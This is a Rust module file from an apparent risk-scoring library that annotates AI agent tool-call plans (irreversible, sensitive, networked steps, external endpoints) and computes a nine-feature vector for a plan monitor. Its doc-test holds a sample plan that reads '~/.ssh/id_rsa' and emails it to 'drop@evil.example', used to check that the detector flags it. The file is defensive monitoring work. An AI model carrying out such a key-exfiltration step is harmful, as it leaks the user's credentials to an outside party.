//! Plan annotation and the 9 NEXUS plan features.
//!
//! Real agents emit a tool name and arguments, not NEXUS's hand annotations. The
//! [`ToolAnnotator`] fills every missing annotation of a [`Step`](vigil_contracts::Step) —
//! irreversible, sensitive, network, permissions, estimated cost, endpoints — from the tool name
//! and arguments with a default lexicon, overridden per tool by a user-supplied [`ToolCatalog`].
//! Annotations given on the step always win. [`plan_features`] then computes the 9-D vector in
//! the NEXUS order ([`PLAN_FEATURES`], schema [`plan_schema`]).
//!
//! ```
//! use vigil_contracts::{from_json_str, Plan};
//! use vigil_features::plan::{plan_features, ToolAnnotator, Action};
//!
//! let plan: Plan = from_json_str(r#"{"budget": 10, "steps": [
//!     {"tool": "read_file", "args": {"path": "/home/me/.ssh/id_rsa"}},
//!     {"tool": "send_email", "args": {"to": "drop@evil.example", "body": "see attached"}}]}"#).unwrap();
//! let annotator = ToolAnnotator::default();
//! let steps = annotator.annotate_plan(&plan);
//! assert!(steps[0].sensitive && !steps[0].network);
//! assert_eq!(steps[1].action, Action::Send);
//! assert!(steps[1].irreversible && steps[1].network);
//! assert_eq!(steps[1].endpoints, vec!["drop@evil.example".to_string()]);
//! let x = plan_features(&plan, &steps);
//! assert_eq!(x[0], 2.0); // num_steps
//! assert_eq!(x[8], 1.0); // external_endpoint_count
//! ```
//!
//! ## Design choices (NEXUS does not publish its feature code)
//!
//! - **permission** = a `domain:action` scope (`email:send`, `files:delete`, `iam:grant`);
//!   `permissions_required` counts unique scopes over the plan.
//! - **cost** is in the unit of the plan's `budget`: a transfer counts the money it moves (its
//!   `amount`), every other step a nominal per-action cost ([`action_cost`]), cloud provisioning
//!   ×10 and ×`count` when it creates several resources. `budget_utilisation` is 0 without a budget
//!   (no limit was set) and uses a budget of 0 as "no spending allowed" (utilisation = cost / 1e-9,
//!   capped at 1e6).
//! - **endpoints** are URL hosts and e-mail addresses, lower-cased, unique over the plan; loopback
//!   and `.local`/`.internal` hosts are not external and are not counted.
//!
//! ## Unseen tools (verb + object)
//!
//! Names are split on `_ - . / : space` and camelCase (`BankManagerTransferFunds` → bank, manager,
//! transfer, funds). Words before the first verb — vendor and product prefixes (`BankManager`,
//! `AugustSmartLock`, `gmail`) — are read as objects, so no vendor list is needed. Then:
//!
//! | step | words (`lexicon.rs`) | gives | consequences (severity comes from the rules) |
//! |---|---|---|---|
//! | verbs | the action lists + `EXTRA_VERBS`; `NOUN_LIKE` words ("message", "payment") count only when no other verb | only read verbs → read; else the most consequential: transfer > delete > grant > execute > send > write | transfer, delete, grant, execute and send are irreversible |
//! | money object | `MONEY_OBJECTS` (money, funds, payment, transaction, …) on a write/send | transfer, domain `payments` | irreversible, sensitive |
//! | access object | `ACCESS_OBJECTS` (access, permission, password, sharing, guest, …) on a write/send; add/invite + user/member | grant | irreversible, privileged when unrequested |
//! | publication | a write of a post/story/video on a social platform; share to a social platform | send | networked, irreversible |
//! | no verb | only information-source nouns (`LOOKUP_NOUNS`: search, news, wikipedia, …) | read | – |
//! | arguments | `AMOUNT_ARGS` + `PAYEE_ARGS` (amount + recipient/iban/to_account) | transfer | |
//! | arguments | `ACCESS_ARGS` (access_level, role, permission, share_with, guest_id) | grant | |
//! | trash | `DELETE` has trash, shred, discard, overwrite, unshare, clear, empty (the first three of trash/clear/empty also `NOUN_LIKE`: "list_trash" reads); move/send/put/add + `TRASH_OBJECTS` ("move_to_trash") | delete | irreversible |
//! | public | `PUBLIC_WORDS` (public, publicly) with "make" or a setting verb ("make_public", "set_repo_public") | grant | irreversible, privileged when unrequested |
//! | argument roles (`roles.rs`, any depth) | a trash flag (`trashed: true`) or a trash destination (`destination: "/Trash"`, `addLabelIds: ["TRASH"]`) → delete; a public visibility (`visibility: "public"`, `type: "anyone"`, `ACL: "public-read"`) → grant; an address under a forward key (`action.forward`, `forward_to`) → send | raise a write or unrecognised name only | as the action |
//! | standing forward | `STANDING_FORWARD_WORDS` (forwarding, autoforward, "auto" + "forward") with any address, or `RULE_WORDS` (filter, rule, setting) with a forward-key address | send; [`StepAnnotation::forwards_to`] | plan-risk `network_egress` crit unless the request spells the address out |
//! | invitees | participant, attendee, guest, invitee keys (`roles.rs`) | [`StepAnnotation::invitees`] | plan-risk `network_egress` med for one the request does not name |
//!
//! Step annotations, then the catalog, win over all of it. On 411 real tool names from AgentDojo,
//! inspect-evals (AgentHarm, τ²-bench, agent_threat_bench, gdm_stealth) and langchain-community
//! (`fixtures/plan-risk/tool-names.jsonl`, labels written by hand) the action class is right for
//! 0.915 (0.652 before this inference; a development number: the word lists were written with the
//! list in view).
//!
//! ## Where things are
//!
//! | file | what |
//! |---|---|
//! | `features.rs` | [`PLAN_FEATURES`], [`plan_schema`], [`plan_features`] |
//! | `annotator.rs` | [`ToolAnnotator`], [`ToolCatalog`], [`CatalogEntry`], [`StepAnnotation`], [`Action`]; action, domain and cost inference ([`action_cost`], [`tool_tokens`]) |
//! | `lexicon.rs` | the default word lists: action verbs, resource domains ([`domain_words`]), network, irreversible and sensitive tokens, sensitive substrings |
//! | `args.rs` | the argument scan (URLs, e-mails, paths, SQL, sensitive terms) |
//! | `shell.rs` | whether a command line only looks ([`is_read_only_command`]) |
//! | `sql.rs` | what a SQL text does ([`sql_statement_action`]): a query tool's `DELETE` is a delete |
//! | `endpoints.rs` | [`normalise_endpoints`], [`is_external`], [`endpoints_in_text`] |
//! | `roles.rs` | what argument names say: invitees, mail-forward targets, trash moves ([`is_trash_path`]), public visibility |
//!
//! Nested arguments are read down to [`MAX_ARG_DEPTH`](crate::json_walk::MAX_ARG_DEPTH) levels
//! ([`json_walk`](crate::json_walk)).

mod annotator;
mod args;
mod endpoints;
mod features;
mod lexicon;
mod roles;
mod shell;
mod sql;

pub use annotator::{
    Action, CatalogEntry, StepAnnotation, ToolAnnotator, ToolCatalog, action_cost, tool_tokens,
};
pub use args::{SEARCH_KEYS, is_search_key};
pub use endpoints::{endpoints_in_text, is_external, normalise_endpoints};
pub use features::{PLAN_FEATURES, plan_features, plan_features_of, plan_schema};
pub use lexicon::domain_words;
pub use roles::is_trash_path;
pub use shell::{command_words, is_read_only_command, program_name};
pub use sql::statement_action as sql_statement_action;

/// Builds the argument scan's regexes and the annotator's token table now (at model
/// construction) instead of on the first step.
pub fn warm_up() {
    args::warm_up();
    annotator::warm_up();
    roles::warm_up();
}
